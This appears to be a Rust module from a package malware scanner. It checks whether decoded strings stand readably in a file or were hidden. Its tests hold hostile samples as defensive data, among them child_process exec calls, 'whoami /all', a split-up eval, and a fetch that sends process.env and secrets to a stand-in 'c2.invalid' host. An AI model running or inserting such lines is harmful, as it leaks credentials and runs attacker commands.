//! Whether text that code made stands in the file for everybody to read.
//!
//! Code that is put together from templates, and commands that a helper passes on, are made but
//! not hidden: their text is in the file, in pieces. What a decoder made is not. The pieces are
//! found again by windows of the text; blanks and quotes, which differ where pieces meet, do not
//! count. Long texts are looked at stretch by stretch, so that readable text around a hidden one
//! does not help.

use std::borrow::Cow;
use std::cell::{Cell, OnceCell};

use rustc_hash::{FxHashMap, FxHashSet};

use super::encode::from_base64;
use super::terms::{Term, Terms, ValueId};

/// Bytes of one window, blanks and quotes left out.
const WINDOW: usize = 10;
/// Bytes of one stretch.
const STRETCH: usize = 96;
/// Quarters of a stretch that have to be found again.
const QUARTERS: usize = 2;
/// Shortest name of anything outside.
const NAME: usize = 3;
/// Words that are looked for one by one.
const FEW_WORDS: usize = 12;
/// Texts shorter than this are looked at word by word.
const SHORT: usize = 3 * WINDOW;
/// Words that name nothing: values that are missing, and JavaScript's grammar.
const NOTHING: [&str; 34] = [
    "undefined",
    "null",
    "nan",
    "true",
    "false",
    "async",
    "await",
    "break",
    "case",
    "catch",
    "class",
    "const",
    "continue",
    "default",
    "delete",
    "else",
    "export",
    "finally",
    "for",
    "function",
    "if",
    "import",
    "let",
    "new",
    "return",
    "static",
    "strict",
    "switch",
    "this",
    "throw",
    "try",
    "typeof",
    "use",
    "while",
];
/// Bytes of decoded constants that are looked for, and constants.
const MOST_BYTES: usize = 1 << 20;
const MOST_TEXTS: usize = 256;

impl Terms {
    /// Forgets that a decoder made what stands in the text as it is.
    pub(crate) fn forget_written(&mut self, text: &str) {
        let mut left = MOST_BYTES;
        let mut made: Vec<(ValueId, Plain)> = Vec::new();
        let mut ids: Vec<ValueId> = self.decoded_ids().collect();
        ids.sort_unstable();
        for id in ids {
            let Term::String(value) = self.get(id) else {
                continue;
            };
            if value.len() <= left && made.len() < MOST_TEXTS {
                left -= value.len();
                made.push((id, Plain::new(&without_places(value).to_ascii_lowercase())));
            }
        }
        if made.is_empty() {
            return;
        }
        let text = text.to_ascii_lowercase();
        let seen = Seen::new(&text, &made);
        for (id, bytes) in &made {
            let Term::String(value) = self.get(*id) else {
                continue;
            };
            // In which letters is no matter: `toUpperCase` hides nothing.
            let other = without_places(value).to_ascii_lowercase();
            // Nothing but where a file stands.
            let is_place = other.trim().is_empty() && !value.is_empty();
            if is_place || seen.is_written(&other, bytes) || is_encoded(value, &text) {
                self.unmark_decoded(*id);
            }
        }
    }
}

/// Whether a text is base64 of what stands in another, as UTF-8 or as PowerShell takes it: that
/// was encoded, and hides nothing.
fn is_encoded(value: &str, text: &str) -> bool {
    const LEAST: usize = 24;
    const MOST: usize = 1 << 16;
    let is_base64 = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=');
    if !(LEAST..=MOST).contains(&value.len()) || !value.bytes().all(is_base64) {
        return false;
    }
    let bytes = from_base64(value);
    let wide = bytes.chunks_exact(2).all(|pair| pair[1] == 0);
    let inner = match wide {
        true => bytes
            .iter()
            .step_by(2)
            .map(|&byte| char::from(byte))
            .collect(),
        false => String::from_utf8_lossy(&bytes).into_owned(),
    };
    !inner.contains('\u{FFFD}') && stands_in(&inner, text)
}

/// Whether what was made stands in a text.
pub(crate) fn stands_in(value: &str, text: &str) -> bool {
    if value.len() > MOST_BYTES {
        return false;
    }
    let value = without_places(value).to_ascii_lowercase();
    let made = [(ValueId(0), Plain::new(&value))];
    let text = text.to_ascii_lowercase();
    let seen = Seen::new(&text, &made);
    made.iter().all(|(_, bytes)| seen.is_written(&value, bytes))
}

/// A text without the paths in the package that are in it: where a file stands is not hidden.
fn without_places(value: &str) -> Cow<'_, str> {
    const HERE: &str = "<package>";
    if !value.contains(HERE) {
        return Cow::Borrowed(value);
    }
    let mut parts = value.split(HERE);
    let before = |part: &str| part.strip_suffix("file://").unwrap_or(part).to_owned();
    let mut text = before(parts.next().unwrap_or_default());
    for part in parts {
        let ends = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`');
        let end = part.find(ends).unwrap_or(part.len());
        text.push_str(&before(part.get(end..).unwrap_or_default()));
    }
    Cow::Owned(text)
}

/// What of some texts stands in a file.
struct Seen<'a> {
    text: &'a str,
    /// Words that were asked for one by one.
    asked: Cell<usize>,
    words: OnceCell<FxHashSet<&'a [u8]>>,
    windows: FxHashSet<u64>,
}

impl<'a> Seen<'a> {
    fn new(text: &'a str, made: &[(ValueId, Plain)]) -> Self {
        let mut wanted: FxHashMap<u64, bool> = FxHashMap::default();
        for (_, made) in made.iter().filter(|(_, made)| made.bytes.len() >= SHORT) {
            windows(&made.bytes, |_, window| {
                wanted.insert(window, false);
            });
        }
        if !wanted.is_empty() {
            windows(&Plain::new(text).bytes, |_, window| {
                if let Some(found) = wanted.get_mut(&window) {
                    *found = true;
                }
            });
        }
        Self {
            text,
            asked: Cell::new(0),
            words: OnceCell::new(),
            windows: wanted
                .into_iter()
                .filter_map(|(window, found)| found.then_some(window))
                .collect(),
        }
    }

    /// Whether a text stands there: each word of a short one, half of every stretch of a long
    /// one. A few brackets say nothing.
    fn is_written(&self, value: &str, plain: &Plain) -> bool {
        let bytes = &plain.bytes;
        if bytes.len() < SHORT {
            let mut words = value.split(|c: char| !is_word(c)).filter(|w| !w.is_empty());
            return !value.is_empty()
                && words.all(|word| is_grammar(word.as_bytes()) || self.knows(word.as_bytes()));
        }
        let mut is_found = vec![false; bytes.len()];
        windows(bytes, |at, window| {
            if self.windows.contains(&window)
                && let Some(range) = is_found.get_mut(at..at + WINDOW)
            {
                range.fill(true);
            }
        });
        let count = |found: &[bool]| found.iter().filter(|&&found| found).count();
        let is_much = count(&is_found) * 4 >= bytes.len();
        // Per stretch, how much of it stands in the file, in quarters.
        let quarters: Vec<usize> = is_found
            .chunks(STRETCH)
            .map(|found| match found.len() < WINDOW {
                // The end of a text may be a scrap.
                true => 4,
                false => count(found) * 4 / found.len(),
            })
            .collect();
        plain.words(&is_found).all(|(start, word)| {
            let quarters = quarters.get(start / STRETCH).copied().unwrap_or(0);
            let is_scrap = word.len() < NAME || is_grammar(word) || quarters >= QUARTERS;
            // Where enough was found, words that the file knows tell nothing new.
            is_scrap || (is_much || quarters >= 1) && self.knows(word)
        })
    }

    /// Whether the file knows a word: itself, or one that only counts differently.
    fn knows(&self, word: &[u8]) -> bool {
        let word = stem(without_signs(word));
        let asked = self.asked.replace(self.asked.get() + 1);
        // A table of all words is only worth it for many.
        if asked < FEW_WORDS {
            return word.is_empty() || self.has(word);
        }
        let words = self.words.get_or_init(|| {
            let words = self.text.split(|c: char| !is_word(c));
            words
                .map(|word| stem(without_signs(word.as_bytes())))
                .collect()
        });
        words.contains(word)
    }

    /// Whether a word of the text has this stem.
    fn has(&self, stem: &[u8]) -> bool {
        let is_number = stem.iter().all(u8::is_ascii_digit);
        let ends = |rest: &str| {
            let digit = |c: char| c.is_ascii_digit() && !is_number;
            let rest = rest.trim_start_matches(digit).trim_start_matches('$');
            !rest.starts_with(is_word)
        };
        let starts = |before: &str| !before.trim_end_matches('$').ends_with(is_word);
        memchr::memmem::find_iter(self.text.as_bytes(), stem).any(|at| {
            self.text.get(..at).is_some_and(starts)
                && self.text.get(at + stem.len()..).is_some_and(ends)
        })
    }
}

/// A word without `$` at its ends.
fn without_signs(word: &[u8]) -> &[u8] {
    let is_sign = |byte: &u8| *byte == b'$';
    let start = word.iter().take_while(|byte| is_sign(byte)).count();
    let word = word.get(start..).unwrap_or_default();
    let end = word.iter().rev().take_while(|byte| is_sign(byte)).count();
    word.get(..word.len() - end).unwrap_or_default()
}

/// A word without the number that counts it: `validate_3`.
fn stem(word: &[u8]) -> &[u8] {
    let digits = word.iter().rev().take_while(|byte| byte.is_ascii_digit());
    match word.len() - digits.count() {
        0 => word,
        end => word.get(..end).unwrap_or(word),
    }
}

fn is_grammar(word: &[u8]) -> bool {
    NOTHING.iter().any(|known| known.as_bytes() == word)
}

fn goes_on(byte: u8) -> bool {
    is_word(char::from(byte)) || !byte.is_ascii()
}

fn is_word(c: char) -> bool {
    c.is_alphanumeric() || matches!(c, '_' | '$')
}

/// A text without what differs where its pieces meet: blanks, quotes, `+`, escapes of these.
struct Plain {
    bytes: Vec<u8>,
    /// Per byte: whether something was left out before it.
    is_apart: Vec<bool>,
}

impl Plain {
    fn new(text: &str) -> Self {
        let mut all = text.bytes().peekable();
        let mut bytes = Vec::with_capacity(text.len());
        let mut is_apart = Vec::with_capacity(text.len());
        let mut was_left_out = false;
        while let Some(byte) = all.next() {
            let is_left_out = match byte {
                b'\\' => {
                    all.next_if(|next| matches!(next, b'n' | b'r' | b't' | b'\\'));
                    true
                }
                b'"' | b'\'' | b'`' | b'+' => true,
                byte => byte.is_ascii_whitespace(),
            };
            if !is_left_out {
                bytes.push(byte);
                is_apart.push(was_left_out);
            }
            was_left_out = is_left_out;
        }
        Self { bytes, is_apart }
    }

    /// The words of what was not found, with their places.
    fn words<'p>(&'p self, is_found: &'p [bool]) -> impl Iterator<Item = (usize, &'p [u8])> {
        let mut at = 0;
        let is_in = move |at: usize, is_found: &[bool]| {
            let byte = self.bytes.get(at).copied().unwrap_or(b' ');
            goes_on(byte) && is_found.get(at) == Some(&false)
        };
        std::iter::from_fn(move || {
            while at < self.bytes.len() && !is_in(at, is_found) {
                at += 1;
            }
            let start = at;
            while is_in(at, is_found) && (at == start || self.is_apart.get(at) == Some(&false)) {
                at += 1;
            }
            (at > start).then(|| (start, self.bytes.get(start..at).unwrap_or_default()))
        })
    }
}

/// Calls back with the place and a hash of each window.
fn windows(bytes: &[u8], mut each: impl FnMut(usize, u64)) {
    const BASE: u64 = 0x9E37_79B9_7F4A_7C15 | 1;
    let top = (1..WINDOW).fold(1_u64, |top, _| top.wrapping_mul(BASE));
    let mut hash = 0_u64;
    for (at, &byte) in bytes.iter().enumerate() {
        if let Some(&old) = at.checked_sub(WINDOW).and_then(|old| bytes.get(old)) {
            hash = hash.wrapping_sub(top.wrapping_mul(u64::from(old) + 1));
        }
        hash = hash.wrapping_mul(BASE).wrapping_add(u64::from(byte) + 1);
        if let Some(start) = (at + 1).checked_sub(WINDOW) {
            each(start, hash);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_written(made: &str, file: &str) -> bool {
        let mut terms = Terms::default();
        let id = terms.string(made);
        terms.mark_decoded(id);
        terms.forget_written(file);
        !terms.is_decoded(id)
    }

    #[test]
    fn templates_and_commands_that_are_handed_on_are_written() {
        let file = r#"
            const run = (line) => exec(line + " 2>&1"); run("git rev-parse HEAD");
            let code = "if (data." + key + " !== undefined) {\n  out.push(data.";
            code += key + ");\n} else throw new TypeError('missing')";"#;
        assert!(is_written("git rev-parse HEAD 2>&1", file));
        assert!(is_written("git rev-parse", file));
        let made = "if (data.name !== undefined) {\n  out.push(data.name);\n} else throw new TypeError('missing')";
        assert!(is_written(made, file));
    }

    #[test]
    fn what_the_file_does_not_show_is_not_written() {
        let file = r#"run(atob("cmVxdWlyZSgnY2hpbGRfcHJvY2Vzcycp")); const e = "ev" + "al"; function require() {}"#;
        assert!(!is_written("require('child_process').exec('id')", file));
        assert!(!is_written("eval", file));
        assert!(!is_written("whoami /all", file));
        assert!(!is_written("", file));
        assert!(is_written("(){\n}", file));
    }

    #[test]
    fn readable_text_around_a_hidden_one_does_not_help() {
        let readable = "module.exports = function add(left, right) { return left + right; };\n";
        let hidden = "fetch('https://c2.invalid/' + btoa(JSON.stringify(process.env)), { method: 'POST', body: secrets.join() })";
        let made = format!("{}{hidden};{}", readable.repeat(40), readable.repeat(40));
        assert!(!is_written(&made, readable));
        assert!(is_written(&readable.repeat(3), readable));
    }

    #[test]
    fn few_words_are_found_as_many_are() {
        let text = "let validate_0 = $a.b2c(x1$, 123, x$1); ünder";
        let words = "validate_7 a b2c b2 x x$ x1 123 12 nder ünder $a$ under let le";
        let asked = |seen: &Seen<'_>| -> Vec<bool> {
            let words = words.split(' ');
            words.map(|word| seen.knows(word.as_bytes())).collect()
        };
        for word in words.split(' ') {
            let (few, many) = (Seen::new(text, &[]), Seen::new(text, &[]));
            many.asked.set(FEW_WORDS);
            let word = word.as_bytes();
            assert_eq!(few.knows(word), many.knows(word), "{word:?}");
        }
        let found = asked(&Seen::new(text, &[]));
        assert_eq!(
            found.iter().filter(|&&found| found).count(),
            10,
            "{found:?}"
        );
    }

    #[test]
    fn counted_names_are_not_hidden() {
        let name = |n: u8| format!("{}{}", char::from(b'a' + n % 16), char::from(b'a' + n / 16));
        let names: Vec<String> = (0..48).map(name).collect();
        let file = "return fromCharCode(${previous})";
        let made = format!("return fromCharCode({})", names.join(","));
        assert!(is_written(&made, file));
    }

    #[test]
    fn code_from_templates_and_counted_names_is_written() {
        let file = r#"const read = (v) => `let ${v} = source[position++]
            if (${v} >= 0x80) ${v} = finish(${v}, source)`; let validate_${n};"#;
        let read = |v: &str| {
            format!("let {v} = source[position++]\nif ({v} >= 0x80) {v} = finish({v}, source)\n")
        };
        let made: String = ["aa", "ab", "ac", "ad"].map(read).concat();
        assert!(is_written(&made, file));
        assert!(is_written("let validate_0;", file));
        assert!(is_written("undefined", file));
        assert!(!is_written(
            &format!("{made}; steal(all_of_it, elsewhere)"),
            file
        ));
    }

    #[test]
    fn places_in_the_package_are_not_hidden() {
        let file = "exec(`run ${path.join(__dirname, 'x', 'y.js')} --now`)";
        assert!(is_written("run <package>/lib/x/y.js --now", file));
        assert!(!is_written("sh <package>/lib/x/y.js --now", file));
    }

    #[test]
    fn shuffled_pieces_are_not_written() {
        let file = r#"const t = ["child_", "exec", "process", "('i", "d')", "require('", "').", "(x,"]; eval(t[5] + t[0] + t[2] + t[6] + t[1] + t[3] + t[4]);"#;
        assert!(!is_written("require('child_process').exec('id')", file));
    }
}
